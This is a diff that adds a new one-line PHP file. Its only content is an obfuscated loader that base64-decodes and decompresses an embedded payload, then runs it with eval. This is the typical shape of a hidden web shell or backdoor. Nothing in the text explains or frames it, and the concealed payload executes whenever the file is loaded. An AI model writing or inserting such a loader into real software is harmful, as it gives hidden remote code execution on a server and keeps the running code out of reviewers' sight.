@@ -0,0 +1 @@
+<?php eval(gzuncompress(base64_decode('eNorriwuSc3VUIl3dw2JVkrOTVGK1bQGAFGKBsU=')));